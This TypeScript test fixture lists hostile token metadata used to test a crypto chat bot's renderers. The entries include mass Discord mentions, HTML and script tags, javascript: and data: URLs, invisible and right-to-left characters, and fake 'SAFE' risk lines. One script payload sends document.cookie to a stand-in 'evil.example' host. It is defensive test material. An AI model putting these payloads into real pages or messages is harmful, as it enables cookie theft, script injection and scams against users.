/**
 * Token metadata written by hostile deployers, as a real chain has: mentions, markup, markdown,
 * invisible and direction-changing characters, overlong names, script and data URLs, empty
 * strings and nulls. Every renderer of the bot is tested against these tokens, so each entry
 * targets one way a name or link can break or abuse a chat message.
 */

export interface HostileMetadata {
  /** Short label used in docs and test names. */
  label: string;
  name: string;
  symbol: string;
  description?: string | null;
  website?: string | null;
  logo?: string;
  image?: string;
  links?: Record<string, string>;
  ownerAddressNull?: boolean;
  /** The token reports top10HoldersSupply as null. */
  top10Null?: boolean;
  isVerifiedSourceCodeNull?: boolean;
}

const LONG_NAME = 'Extremely Long Token Name That Keeps Going '.repeat(8).slice(0, 300);

export const HOSTILE_METADATA: readonly HostileMetadata[] = [
  {
    label: 'mass mentions',
    name: '@everyone FREE AIRDROP @here',
    symbol: '@here',
    description: '@everyone claim now, ping <@&123456789012345678> and <@123456789012345678>',
  },
  {
    label: 'role mention',
    name: '<@&123456789012345678> Official',
    symbol: '<@&123456789012345678>',
    links: { twitter: 'https://x.example/@everyone', telegram: 'https://t.example/@here' },
  },
  {
    label: 'html tags',
    name: '<b>Bold</b> Token</a>',
    symbol: '<b>',
    description: '<a href="https://evil.example">claim</a><img src=x onerror=alert(1)>',
  },
  {
    label: 'script tag',
    name: "<script>alert('x')</script>",
    symbol: '</a>',
    website: 'javascript:alert(document.cookie)',
    description: '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  },
  {
    label: 'markdown',
    name: '**RUG** __PULL__ ||spoiler|| `code` ~~gone~~ [x](javascript:alert(1))',
    symbol: '`$`',
    description: '[claim airdrop](javascript:alert(1)) **now** # heading\n> quote',
    links: { twitter: '[x](javascript:alert(1))', telegram: 'https://t.example/real' },
  },
  {
    label: 'zero-width and right-to-left',
    name: 'USD\u200BC Offi\uFEFFcial \u202Egnp.exe',
    symbol: 'US\u200BDC\u202E',
    description: 'Looks like USDC\u200B\u200B\uFEFF but is not',
  },
  {
    label: '300-character name',
    name: LONG_NAME,
    symbol: 'LONG'.repeat(10),
    description: 'x'.repeat(2000),
  },
  {
    label: 'script and data urls',
    name: 'Link Trap',
    symbol: 'LINK\u200B',
    website: 'javascript:alert(1)',
    logo: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    image: 'javascript:alert(1)',
    links: {
      twitter: 'javascript:alert(1)',
      telegram: 'data:text/html,<script>alert(1)</script>',
      discord: 'https://discord.example/invite/@everyone',
      website: 'JaVaScRiPt:alert(1)',
    },
  },
  {
    label: 'empty strings and nulls',
    name: '',
    symbol: '',
    description: null,
    website: null,
    logo: '',
    image: '',
    links: {},
    ownerAddressNull: true,
    top10Null: true,
    isVerifiedSourceCodeNull: true,
  },
  {
    label: 'newlines and fake fields',
    name: 'Legit Token\n\nRisk: SAFE ✅\nLiquidity: locked 🔒\n@everyone',
    symbol: 'SAFE\nUSDC',
    description: '\r\n\r\nOfficial announcement:\r\nsend SOL to claim',
  },
  {
    label: 'html entities and telegram tags',
    name: '&lt;b&gt; &amp; <i>italic</i> <tg-spoiler>x</tg-spoiler> <code>c</code>',
    symbol: '&amp;',
    website: 'https://evil.example/"><script>alert(1)</script>',
  },
  {
    label: 'combining marks and emoji',
    name: 'Z\u0337a\u0337l\u0337g\u0337o\u0337 🚀🚀🚀 \u0000nul',
    symbol: '🚀\u0301\u0301\u0301',
    top10Null: true,
  },
];
